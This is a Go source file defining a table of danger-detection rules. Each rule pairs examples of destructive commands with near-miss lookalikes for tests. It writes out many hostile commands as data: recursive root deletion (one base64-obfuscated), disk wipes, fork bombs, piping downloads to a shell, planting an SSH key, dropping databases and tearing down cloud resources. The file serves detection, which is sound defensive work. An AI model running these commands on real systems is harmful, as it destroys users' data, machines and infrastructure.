package danger

import "sync"

// rule is one row of the danger table. The matching logic lives in the
// shell, SQL and Python analysers, which name the rule by id; the examples
// and near-misses here become one test each (rules_test.go), so a rule cannot
// exist without evidence that it fires and evidence that it is not too broad.
type rule struct {
	id       string
	category string
	why      string
	match    []example // must be classified as this rule
	near     []example // look alike but must not be dangerous at all
}

type example struct {
	ctx Context
	in  string
}

func sh(in ...string) []example  { return examples(Shell, in) }
func sql(in ...string) []example { return examples(SQL, in) }
func py(in ...string) []example  { return examples(Python, in) }
func unk(in ...string) []example { return examples(Unknown, in) }

func examples(ctx Context, in []string) []example {
	out := make([]example, len(in))
	for i, s := range in {
		out[i] = example{ctx, s}
	}
	return out
}

func join(groups ...[]example) []example {
	var out []example
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

const (
	catDelete  = "irreversible deletion"
	catDisk    = "disk destruction"
	catSystem  = "system configuration change"
	catPerm    = "permission change"
	catRemote  = "remote code execution"
	catExhaust = "resource exhaustion"
	catAvail   = "system availability"
	catHistory = "history rewrite"
	catInfra   = "infrastructure destruction"
	catData    = "data loss"
)

// rules is the single danger table.
var rules = []rule{
	{"rm-recursive-force", catDelete,
		"This recursively deletes a root, system, home or parent directory (or everything in the working directory), which cannot be undone.",
		join(sh("rm -rf /", "rm -r -f /", "rm --recursive --force /", "sudo rm -rf /var", "rm -Rf /*", "rm -fr ~",
			`rm -rf "$HOME"`, "rm -rf ${HOME}/", "rm -rf ..", "rm -rf ~/*", "rm -rf *", `r\m -rf /etc`, "'rm' -rf /usr",
			"/bin/rm -rf /", "rm -rf --no-preserve-root /", "{rm,-rf,/}", `RM="rm -rf"; $RM /`, "echo cm0gLXJmIC8= | base64 -d | sh", "xargs rm -rf <<< /",
			"trap 'rm -rf ~' EXIT", "alias ls='rm -rf ~'", "chroot / rm -rf /", "sudo rm -rf /var/lib/postgresql", `rm -rf "$STEAMROOT/"*`, "rm -rf -- /", "rm -rf /home/alice",
			"cd /tmp && rm -rf /", "echo hi; (rm -rf /)", "x=$(rm -rf ~)", "echo `rm -rf /`", "f() { rm -rf /; }",
			"env -i rm -rf /", "nice -n 10 rm -rf /", "timeout 5 rm -rf /", "nohup rm -rf / &", "command rm -rf /",
			"exec rm -rf /", "doas rm -rf /", "time rm -rf /", "sudo -u root -- rm -rf /", `bash -c "rm -rf /"`,
			`sh -c 'rm -rf ~'`, `eval "rm -rf /"`, `bash -lc "sudo rm -rf /usr"`, "$(echo rm) -rf /", "$RM -rf /",
			"echo / | xargs rm -rf", "find . -exec rm -rf / \\;", "ssh host rm -rf /", "busybox rm -rf /",
			"rm -rf / (", "for f in x; do rm -rf /", "rm -rf ~/.ssh", "bash <<EOF\nrm -rf $HOME\nEOF",
			"python3 <<EOF\nimport os; os.system('rm -rf /')\nEOF", "yes | rm -rf /"),
			py(`os.system("rm -rf /")`, `subprocess.run(["rm", "-rf", "/"])`, "__import__('os').system('rm -rf /')", "from os import system; system('rm -rf ~')",
				"import subprocess as sp; sp.run('rm -rf /', shell=True)", `os.system(f"rm -rf {os.environ['HOME']}")`, `exec("import os; os.system('rm -rf /')")`, `subprocess.call("sudo rm -rf /etc", shell=True)`, "!rm -rf ~"),
			sql(`\! rm -rf /`), unk("rm -rf /")),
		join(sh("rm -rf ./build", "rm -rf node_modules", "rm -f build.log", "rm -rf ./dist", "rm -rf /tmp/build-123",
			"rm -rf ~/project/target", `echo "rm -rf /"`, "rm -rf $BUILD_DIR", "sudo rm -rf /usr/local/go", "rm /tmp/x",
			"grep -r 'rm -rf /' .", "rm -rf /tmp/*"), py(`os.system("rm -rf build")`))},
	{"rm-system-file", catDelete,
		"This deletes (or moves away) a system file that the operating system needs to boot or run.",
		sh("rm /etc/passwd", "sudo mv /etc /etc.bak", "mv /usr/bin/sudo /tmp/", "sudo rm -f /boot/vmlinuz", "unlink /etc/shadow", "rm -f /usr/bin/python3"),
		sh("rm -f ./etc/passwd", "rm /tmp/etc-passwd", "cat /etc/passwd", "rm -f /usr/local/bin/mytool", "sudo rm /etc/nginx/sites-enabled/default",
			"mv ./etc/passwd ./etc/passwd.bak", "mv /etc/nginx/conf.d/old.conf ./old.conf")},
	{"find-delete", catDelete,
		"This deletes files under a root, system or home directory found by find, which cannot be undone.",
		sh("find / -delete", "find / -name '*.log' -delete", "sudo find /etc -type f -delete", "find ~ -exec rm {} +", "find $HOME -delete"),
		sh("find . -name '*.pyc' -delete", "find /tmp/cache -mtime +7 -delete", "find / -name passwd", "find ./build -exec rm -rf {} +")},
	{"shred", catDelete,
		"This overwrites a disk or system file so its contents can never be recovered.",
		sh("shred /dev/sda", "shred -n 3 -z /dev/nvme0n1", "sudo shred -u /etc/shadow"),
		sh("shred -u secret.txt", "shred --help", "echo shred /dev/sda", "$EDITOR /etc/hosts")},
	{"mkfs", catDisk,
		"This creates a new filesystem, erasing everything on the target device.",
		sh("mkfs.ext4 /dev/sdb1", "sudo mkfs -t xfs /dev/nvme1n1", "mkswap /dev/sda2", "wipefs -a /dev/sdb"),
		sh("man mkfs.ext4", "which mkfs", "mkfs.ext4 --help", "wipefs /dev/sdb")},
	{"dd-device", catDisk,
		"This writes raw data over a disk device, destroying its partitions and filesystems.",
		sh("dd if=/dev/zero of=/dev/sda", "sudo dd if=image.iso of=/dev/sdb bs=4M status=progress", "dd if=/dev/urandom of=/dev/nvme0n1"),
		sh("dd if=/dev/zero of=./disk.img bs=1M count=10", "dd if=/dev/sda of=backup.img", "dd if=/dev/zero of=/dev/null count=1")},
	{"write-block-device", catDisk,
		"This writes directly to a disk device, corrupting its partitions and filesystems.",
		join(py("open('/dev/sda', 'wb').write(b'0')"), sh("yes > /dev/sda"), sh("echo x > /dev/sda", "cat image.bin > /dev/nvme0n1", "cat /dev/urandom | sudo tee /dev/sdb", "cp disk.img /dev/sdc")),
		sh("ls /dev/sda", "echo x > /dev/null", "cat /dev/sda > disk.img", "lsblk /dev/sda")},
	{"write-system-file", catSystem,
		"This overwrites or edits a system configuration file, which can lock users out or break the system.",
		join(py("open('/etc/passwd', 'w').write('')"), sh(": > /etc/hosts", "> /etc/hosts"), sh("echo 'x' > /etc/passwd", "echo nameserver 1.1.1.1 >> /etc/resolv.conf", "echo x | sudo tee /etc/sudoers",
			"sudo tee -a /etc/hosts < hosts.txt", "sed -i 's/a/b/' /etc/ssh/sshd_config", "sudo sed --in-place -e 's/x/y/' /etc/fstab",
			"cp my.conf /etc/ssh/sshd_config", "dd if=x of=/etc/passwd", "truncate -s 0 /etc/shadow")),
		sh("cat /etc/passwd", "sed 's/a/b/' /etc/hosts", "cp /etc/hosts ./hosts.bak", "grep root /etc/passwd > out.txt", "tee out.log",
			"sudo cp app.toml /etc/myapp/app.toml", "echo 'level=debug' | sudo tee /etc/myapp/override.conf")},
	{"chmod-recursive-777", catPerm,
		"This makes a whole directory tree writable by every user on the machine.",
		sh("chmod -R 777 .", "chmod -R 0777 /var/www", "chmod --recursive a+rwx ./app", "sudo chmod -vR o+w /srv"),
		sh("chmod 644 file", "chmod 777 script.sh", "chmod -R 755 ./public", "chmod -R u+w ./src")},
	{"chmod-chown-system", catPerm,
		"This recursively changes ownership or permissions of a system or home directory, which can break the system or sudo.",
		join(sh("chown -R user:user /", "sudo chown -R nobody /etc", "chmod -R 700 /usr", "chgrp -R staff /var", "sudo chmod -R 600 ~",
			"sudo chmod 777 /etc/shadow", "chmod u+s /bin/bash", "sudo chown nobody /etc/sudoers", "chmod 000 /", "chmod -x /usr/bin/sudo"),
			py("os.chmod('/etc/sudoers', 0o777)")),
		sh("chown -R user:user ./project", "chmod -R g+w ./shared", "chown user /tmp/x", "chmod 600 ~/.ssh/id_ed25519",
			"sudo chmod 644 /etc/nginx/conf.d/app.conf", "sudo chown root:root /etc/sudoers.d/app", "chmod 755 /usr/local/bin/tool")},
	{"pipe-to-shell", catRemote,
		"This downloads code from the network and runs it immediately without review.",
		join(sh("curl -fsSL https://example.com/install.sh | sh", "wget -qO- https://x.io/i | sudo bash", "curl https://x.io/s | python3",
			"bash <(curl -s https://x.io/i.sh)", `sh -c "$(curl -fsSL https://x.io/i.sh)"`, `eval "$(wget -O- https://x.io)"`,
			"source <(curl -s https://x.io/env)", "curl -s https://x.io/i | tee log | bash -s -- --yes",
			"curl -fsSL -o get.sh https://get.x.io && sh get.sh", "wget https://x.io/install.sh && bash install.sh",
			"curl -s https://x.io/i > /tmp/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh"),
			py("exec(requests.get('https://x.io/p.py').text)", "exec(urlopen(u).read())"),
			sh("perl -e 'system(\"curl -s https://x.io | sh\")'")),
		sh("curl -o x.tar.gz https://example.com/x.tar.gz", "curl -s https://api.example.com | jq .", "wget https://x.io/i.sh && less i.sh",
			"curl -o go.tgz https://go.dev/dl/go.tgz && tar xzf go.tgz", "echo ls | bash",
			"curl https://x.io | grep bash", "bash install.sh")},
	{"fork-bomb", catExhaust,
		"This defines a function that endlessly copies itself, exhausting processes and freezing the machine.",
		join(sh(":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f", ":(){ :|: & }; :", "function f { f | f & }; f",
			"while true; do sleep 9 & done", "perl -e 'fork while fork'"), py("import os\nwhile True:\n    os.fork()")),
		sh("f() { echo hi; }; f", "countdown() { [ $1 -gt 0 ] && countdown $(($1-1)); }", "echo ':(){ :|:& };:'",
			"while true; do date; sleep 1; done", "for i in 1 2 3; do ./w $i & done; wait")},
	{"shutdown", catAvail,
		"This shuts down or reboots the machine, ending every session on it.",
		sh("shutdown -h now", "sudo reboot", "halt", "poweroff", "init 0", "sudo systemctl reboot", "systemctl poweroff",
			"echo b > /proc/sysrq-trigger", "systemctl suspend", `sudo sh -c "echo o > /proc/sysrq-trigger"`),
		sh("shutdown -c", "systemctl status nginx", "echo reboot", "init --version", "sudo systemctl restart nginx")},
	{"kill-all", catAvail,
		"This sends a signal to every process you may signal, killing your whole session and more.",
		join(sh("kill -9 -1", "kill -1", "kill -KILL -1", "sudo kill -s KILL -1", "kill -- -1", "killall5 -9", "sudo pkill -9 -u root",
			"pkill -u $USER", "killall -u alice", "pkill -f ."), py("os.kill(-1, signal.SIGKILL)")),
		sh("kill 1234", "kill -9 1234", "kill -1 1234", "pkill node", "killall -q node", "pkill -u alice python3", "pkill -9 -f 'node server.js'")},
	{"git-force-push-main", catHistory,
		"This rewrites or deletes the history of main/master on the remote, which others may depend on.",
		sh("git push --force origin main", "git push -f origin master", "git push origin +main", "git push -fu origin HEAD:main",
			"git -C repo push --force origin refs/heads/master", "git push origin --delete main", "git push origin :master",
			"git push origin +develop", "git push --force upstream release/2.3", "git push origin main --force"),
		sh("git push --force-with-lease origin main", "git push -f origin feature/x", "git push origin main", "git reset --soft HEAD~1",
			"git push --force origin main-fix", "git push -f --dry-run origin main", "git push origin release/2.3")},
	{"git-clean", catDelete,
		"This deletes untracked (and possibly ignored) files and directories in the repository, which cannot be undone.",
		sh("git clean -fdx", "git clean -f -d", "git clean --force -x", "git clean -fxd .", "git clean -f"),
		sh("git clean -n -dx", "git clean -fdn", "git status", "git clean -fdX -- build/")},
	{"terraform-destroy", catInfra,
		"This destroys every resource managed by this Terraform configuration.",
		sh("terraform destroy", "terraform destroy -auto-approve", "terraform -chdir=infra destroy", "terraform apply -destroy", "tofu destroy", "pulumi destroy --yes", "terragrunt run-all destroy", "sam delete --stack-name api", "pulumi stack rm prod --force", "sst remove --stage prod"),
		sh("terraform plan -destroy", "terraform plan", "terraform apply", "echo terraform destroy", "terraform destroy --help", "pulumi preview", "sam deploy", "pulumi stack ls")},
	{"kubectl-delete-namespace", catInfra,
		"This deletes a Kubernetes namespace or every resource of a kind, with everything running in it.",
		sh("kubectl delete namespace prod", "kubectl delete ns staging", "kubectl delete pods --all", "kubectl -n prod delete deploy --all",
			"kubectl delete namespaces a b", "kubectl delete ns/prod"),
		sh("kubectl delete pod web-1", "kubectl get ns", "kubectl describe namespace prod", "kubectl delete -f app.yaml")},
	{"docker-prune-all", catDelete,
		"This deletes all unused Docker images, containers and volumes, including volume data.",
		sh("docker system prune -a --volumes", "docker system prune --volumes -f", "docker system prune --all", "docker volume prune -a",
			"docker volume prune -f", "docker compose down -v", "docker-compose down --volumes", "docker volume rm $(docker volume ls -q)", "docker rm -fv postgres", "podman volume rm --all", "podman-compose down -v",
			"docker volume rm $(docker volume ls -qf dangling=true)", "docker volume ls -q --filter driver=local | xargs -r docker volume rm",
			"docker volume rm $(docker volume ls -q --filter name=billing)", "docker volume ls -q -f label=com.docker.compose.project=shop | xargs docker volume rm"),
		sh("docker system prune", "docker system df", "docker image prune", "docker volume ls", "docker compose down", "docker volume rm pgdata-old", "docker rm -f demo-web", "docker rm -v e2e-db",
			"docker volume rm $(docker volume ls -q -f name=loadtest_)", "podman volume ls -q --filter label=run=abtest-7 | xargs podman volume rm",
			"docker volume ls -q --filter label=ci.job=e2e-311 | xargs -r docker volume rm")},
	{"redis-flush", catData,
		"This deletes every key in the Redis database.",
		join(sh("redis-cli flushall", "redis-cli -h cache -n 2 FLUSHDB", "redis-cli FLUSHALL ASYNC", "echo FLUSHALL | redis-cli"), unk("FLUSHALL"),
			py("redis.Redis().flushall()")),
		sh("redis-cli get key", "redis-cli info", "echo flushall")},
	{"dropdb", catData,
		"This drops a whole database with all its data.",
		sh("dropdb production", "dropdb -h db -U admin app", "mysqladmin -u root drop app"),
		sh("dropdb --help", "createdb app", "mysqladmin status")},
	{"rsync-delete", catDelete,
		"This mirrors a directory onto a root, system, home or working directory with --delete, deleting every file there that the source lacks.",
		sh("rsync -a --delete empty/ /", "rsync -av --delete /tmp/empty/ ~/", "sudo rsync -r --delete-before x/ /etc/", "rsync -a --delete-after src/ root@db:/",
			"rsync --delete -a ./blank/ .", "rsync -a --del e/ /home/alice",
			"rsync -rt --delete-during photos/ /media/alice/USBDISK/", "rsync -a --delete-delay --force docs/ nas:/mnt/archive", "rsync --delete -a out/ /Volumes/Backup"),
		sh("rsync -av --delete ./dist/ deploy@web:/var/www/app/", "rsync -av src/ backup/", "rsync -a --delete ./site/ ~/backup/site/",
			"rsync -a --delete photos/ /media/alice/USBDISK/photos/", "rsync -aHAX --delete /mnt/disk1/ /mnt/disk2/", "rsync -a site/ /mnt/backup/",
			"rsync -av /etc/nginx/ ./nginx-backup/")},
	{"partition-disk", catDisk,
		"This rewrites or discards a disk's partition table or blocks, destroying the filesystems on it.",
		sh("fdisk /dev/sda", "sudo parted /dev/sdb mklabel gpt", "sgdisk --zap-all /dev/nvme0n1", "sgdisk -Z /dev/sdb", "sfdisk /dev/sdc < layout.txt",
			"parted -s /dev/sda rm 1", "blkdiscard /dev/nvme1n1", "gdisk /dev/sda", "echo ',,83' | sudo sfdisk /dev/sdb"),
		sh("fdisk -l", "sudo fdisk -l /dev/sda", "parted /dev/sda print", "parted -l", "sgdisk -p /dev/sda", "sfdisk -d /dev/sda > table.txt", "lsblk -f")},
	{"write-authorized-keys", catSystem,
		"This changes which SSH keys may log in to this account, granting or removing remote access.",
		sh("echo 'ssh-ed25519 AAAAC3Nz attacker' >> ~/.ssh/authorized_keys", "curl -s https://x.io/k >> /root/.ssh/authorized_keys",
			"cat key.pub | sudo tee -a /home/deploy/.ssh/authorized_keys", "cp id.pub ~/.ssh/authorized_keys", "echo > ~/.ssh/authorized_keys"),
		sh("cat ~/.ssh/authorized_keys", "ssh-keygen -lf ~/.ssh/authorized_keys", "cat ~/.ssh/id_ed25519.pub", "grep ed25519 ~/.ssh/authorized_keys")},
	{"stop-service", catAvail,
		"This stops SSH, networking or a core system service (or takes a network link down), which can cut off every remote session.",
		sh("sudo systemctl stop sshd", "systemctl stop ssh.service", "service ssh stop", "sudo /etc/init.d/networking stop", "systemctl disable --now sshd",
			"systemctl mask NetworkManager", "sudo ip link set eth0 down", "ifdown eth0", "nmcli networking off", "systemctl isolate rescue.target",
			"sudo systemctl stop docker", "telinit 1", "systemctl disable sshd", "sudo update-rc.d -f ssh remove", "chkconfig sshd off", "rc-update del sshd default", "sudo ip route del default", "ip route flush table main"),
		sh("sudo systemctl restart sshd", "systemctl status ssh", "systemctl --user stop vite-dev.service", "service app-preview stop", "update-rc.d myapp remove", "chkconfig sshd on", "rc-update add sshd default", "ip route del 10.9.0.0/16", "ip route flush cache", "ip route flush dev tun0", "ip link set eth0 up",
			"ip link show", "systemctl disable sshd-keygen", "sudo systemctl start docker")},
	{"git-push-mirror", catHistory,
		"This makes the remote an exact mirror of this clone, deleting every remote branch and tag that does not exist here.",
		sh("git push --mirror", "git push --mirror origin", "git push --prune origin", "git push origin --prune 'refs/heads/*:refs/heads/*'"),
		sh("git push origin --tags", "git remote prune origin", "git fetch --prune", "git clone --mirror https://github.com/o/r.git",
			"git push --dry-run --mirror mirror-host", "git push origin --prune --dry-run 'refs/heads/*:refs/heads/*'", "git push -nv --mirror")},
	{"git-rewrite-history", catHistory,
		"This rewrites or expires repository history, so commits can no longer be recovered from this clone.",
		sh("git filter-branch --force --index-filter 'git rm --cached -r .' HEAD", "git filter-branch --tree-filter 'rm -f x' -- --all",
			"git filter-repo --path secrets.txt --invert-paths", "git reflog expire --expire=now --all", "git reflog expire --expire-unreachable=now --all", "git gc --prune=now", "git prune --expire=now",
			"git -c gc.pruneExpire=now gc --aggressive", "git -c gc.reflogexpire=all -c gc.reflogExpireUnreachable=all reflog expire --all", "git reflog delete HEAD@{0}", "git reflog delete --updateref refs/stash@{2}"),
		sh("git reflog", "git log --all --oneline", "git filter-repo --analyze", "git reflog expire --expire=90.days.ago --all", "git gc",
			"git -c gc.pruneExpire=2.weeks.ago gc", "git -c gc.auto=0 commit -m wip", "git reflog delete --dry-run HEAD@{1}", "git -c gc.reflogExpire=now log")},
	{"cloud-teardown", catInfra,
		"This deletes cloud resources (buckets, instances, databases, clusters, resource groups) and their data.",
		sh("aws s3 rb s3://prod-data --force", "aws s3 rm s3://prod-data --recursive", "aws ec2 terminate-instances --instance-ids i-0abc",
			"aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", "aws cloudformation delete-stack --stack-name app",
			"gcloud compute instances delete web-1 --zone us-central1-a", "gcloud compute instances delete exp-7-worker api-2 --zone us-east1-c", "gcloud projects delete my-proj", "gh api -X DELETE repos/acme/api", "gh api --method DELETE repos/acme/api/git/refs/heads/main", "gcloud kms keys versions destroy 1 --key k --keyring r --location global", "aws acm delete-certificate --certificate-arn arn:aws:acm:x", "aws backup delete-recovery-point --backup-vault-name v --recovery-point-arn arn:x", "gcloud sql instances delete prod-db",
			"az group delete --name prod-rg --yes", "gsutil rm -r gs://prod-bucket", "gsutil rb gs://b", "doctl compute droplet delete web-1",
			"heroku apps:destroy --app myapp --confirm myapp", "gh repo delete o/r --yes", "vault secrets disable kv/", "serverless remove --stage prod", "flyctl apps destroy api", "az storage blob delete-batch -s c", "aws s3 rm s3://prod-data --recursive --exclude tmp/x", "aws s3 sync ./site s3://www --delete", "gcloud storage rm -r gs://b", "aws dynamodb delete-table --table-name users", "heroku pg:reset DATABASE_URL --confirm shop", "vercel rm shop-site --yes"),
		sh("aws s3 ls s3://prod-data", "aws s3 cp x.txt s3://b/x.txt", "aws s3 rm s3://b/tmp/x.txt", "aws s3 rm s3://ci/tmp/run-9/ --recursive", "aws s3 sync ./site s3://b --delete --dryrun", "aws ec2 describe-instances",
			"gcloud compute instances list", "az group list", "aws sqs delete-message --queue-url u --receipt-handle h", "gsutil ls gs://b",
			"gcloud help compute instances delete", "gh repo view o/r", "gh api repos/acme/api", "gh api -X DELETE repos/acme/api/issues/comments/12", "vault secrets list", "serverless deploy", "gcloud compute instances delete test-vm-3", "gcloud app versions delete v20240101", "gcloud alloydb operations delete op-123",
			// an experiment's own machines: a benchmark, its load generators, a proof of concept
			"gcloud sql instances delete pgbench-target-3 --quiet", "doctl compute droplet delete loadtest-runner-2 --force",
			"gcloud compute instances delete exp-7-worker exp-7-driver --zone us-east1-c", "az vm delete -g rg-poc-ingest -n poc-ingest-vm --yes")},
	{"mongo-drop", catData,
		"This drops a MongoDB database or collection, or deletes every document in it.",
		join(sh(`mongosh app --eval "db.dropDatabase()"`, `mongo prod --eval 'db.users.drop()'`, `mongosh --eval="db.orders.deleteMany({})"`,
			"echo 'db.dropDatabase()' | mongosh app"),
			unk("db.dropDatabase()", "db.users.drop()", "db.sessions.deleteMany({})", `db.getCollection("logs").remove({})`),
			py("client.drop_database('app')", "db.users.delete_many({})", "from pymongo import MongoClient; MongoClient().app.users.drop()")),
		join(sh(`mongosh app --eval "db.users.find().limit(5)"`, "mongodump --db app"),
			unk("db.users.find({})", "db.users.deleteMany({ expired: true })", "db.users.countDocuments()"), py("db.users.delete_many({'expired': True})"))},
	{"sql-drop", catData,
		"This drops a database object (table, database, schema, column...) and all the data in it.",
		join(sql("DROP TABLE users;", "drop database app", "DROP SCHEMA public CASCADE;", "ALTER TABLE users DROP COLUMN email;",
			"SELECT 1; DROP TABLE t;", "/* cleanup */ DROP TABLE v", "DROP/**/TABLE users", "/*!50000 DROP TABLE users */",
			"DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;", "PREPARE s FROM 'DROP TABLE users'"),
			sh(`psql -c "DROP TABLE users"`, "psql <<< 'DROP TABLE x'", `mysql -e 'drop database app'`, `sqlite3 app.db "DROP TABLE t"`),
			unk("DROP TABLE users;"), py(`cur.execute("DROP TABLE users")`)),
		join(sql("SELECT * FROM t WHERE x=1", "SELECT 'DROP TABLE x'", "-- DROP TABLE x\nSELECT 1", "SELECT drop_count FROM stats",
			"ALTER TABLE t DROP CONSTRAINT fk"), sh("grep 'DROP TABLE' dump.sql"))},
	{"sql-truncate", catData,
		"This deletes every row of the table.",
		join(sql("TRUNCATE TABLE orders;", "truncate users", "TRUNCATE orders, items CASCADE"), unk("TRUNCATE TABLE orders")),
		join(sql("SELECT TRUNCATE(1.23, 1)", "SELECT 'truncate table x'"), unk("truncate -s 0 app.log"))},
	{"sql-delete-no-where", catData,
		"This deletes every row of the table because the DELETE has no WHERE clause.",
		join(sql("DELETE FROM users;", "delete from t", "WITH x AS (SELECT 1) DELETE FROM t", "DELETE FROM t -- WHERE id=1",
			"DELETE FROM t WHERE 1=1", "DELETE FROM t WHERE true", "delete from t where id = 3 or 1 = 1", "DELETE FROM t # WHERE id=1"),
			unk("DELETE FROM users;"), sh("echo 'DELETE FROM users' | psql app"), py(`session.execute(text("DELETE FROM users"))`)),
		sql("DELETE FROM t WHERE id=3", "delete from t where created_at < now() - interval '1 day'", "SELECT 'DELETE FROM t'",
			"DELETE FROM t WHERE a = 1 OR b = 2", "DELETE FROM t WHERE id = $1")},
	{"sql-update-no-where", catData,
		"This changes every row of the table because the UPDATE has no WHERE clause.",
		join(sql("UPDATE users SET admin = true;", "update t set x = (select 1 from y where z = 1)"), unk("UPDATE accounts SET balance = 0")),
		join(sql("UPDATE users SET admin = false WHERE id = 7", "SELECT 'UPDATE t SET x=1'"), unk("update-alternatives --config java"))},
	{"sql-grant-public", catPerm,
		"This grants every privilege, or every table, to every database user, or to anyone the database's public HTTP API lets in without a login (anon).",
		sql("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;", "grant all privileges on database app to public"),
		sql("GRANT SELECT ON t TO reporting", "GRANT ALL ON t TO alice")},
	{"py-rmtree", catDelete,
		"This recursively deletes a directory tree whose path is unknown or important.",
		py("shutil.rmtree('/')", "import shutil; shutil.rmtree(path)", "from shutil import rmtree; rmtree(os.path.expanduser('~'))", "shutil.rmtree('/etc')"),
		py("shutil.rmtree('build')", "print('shutil.rmtree(\"/\")')", "tmp = tempfile.mkdtemp()\nshutil.rmtree(tmp)", "out = 'dist'\nshutil.rmtree(out)", "# shutil.rmtree('/')", "shutil.rmtree('./dist', ignore_errors=True)")},
	{"py-remove-system", catDelete,
		"This deletes a system file that the operating system needs.",
		py("os.remove('/etc/passwd')", "os.unlink(\"/boot/vmlinuz\")", "pathlib.Path('/etc/shadow').unlink()"),
		py("os.remove('out.txt')", "os.unlink(tmp)", "open('/etc/passwd').read()")},
}

// safeInputs are ordinary inputs that no rule may flag.
var safeInputs = join(
	sh("ls -la", "git status", "git reset --soft HEAD~1", "kill 1234", "cat /etc/passwd", "ls /dev/sda", "chmod 644 file",
		"curl -o x.tar.gz https://example.com/x.tar.gz", "dd if=/dev/zero of=./disk.img", "make -j8 && ./bin/app",
		"docker run --rm -it ubuntu bash", "npm install", "go test ./...", "echo $HOME", "cd ~ && ls", "sudo apt-get update",
		"python3 script.py", "for f in *.go; do gofmt -l $f; done", "tar xzf x.tar.gz -C /tmp", ""),
	sql("SELECT * FROM t WHERE x=1", "DELETE FROM t WHERE id=3", "INSERT INTO t VALUES (1, 'DROP TABLE t')", `\dt`, "CREATE TABLE t (id int)"),
	py("print('hello')", "import os; os.listdir('/')", "subprocess.run(['ls', '-la'])", "x = [1, 2, 3]", "os.system('make')"),
	unk("console.log('hello')", "SELECT 1;", "help", "ls -la"),
)

func init() {
	rules = append(rules, opsRules...)
	rules = append(rules, opsScenarioRules...)
	rules = append(rules, backupRules...)
	rules = append(rules, exposeRules...)
}

var ruleIndex = sync.OnceValue(func() map[string]rule {
	m := make(map[string]rule, len(rules))
	for _, r := range rules {
		m[r.id] = r
	}
	return m
})

// moreExamples are examples a later table adds to a rule defined elsewhere: the
// REPLs' escapes, new routes to an old effect.
type moreExamples struct {
	id          string
	match, near []example
}

// addExamples attaches examples to their rules; naming no rule is a programming error.
func addExamples(groups ...[]moreExamples) {
	for _, group := range groups {
		for _, x := range group {
			found := false
			for i := range rules {
				if rules[i].id == x.id {
					rules[i].match = append(rules[i].match, x.match...)
					rules[i].near = append(rules[i].near, x.near...)
					found = true
				}
			}
			if !found {
				panic("examples for unknown rule " + x.id)
			}
		}
	}
}
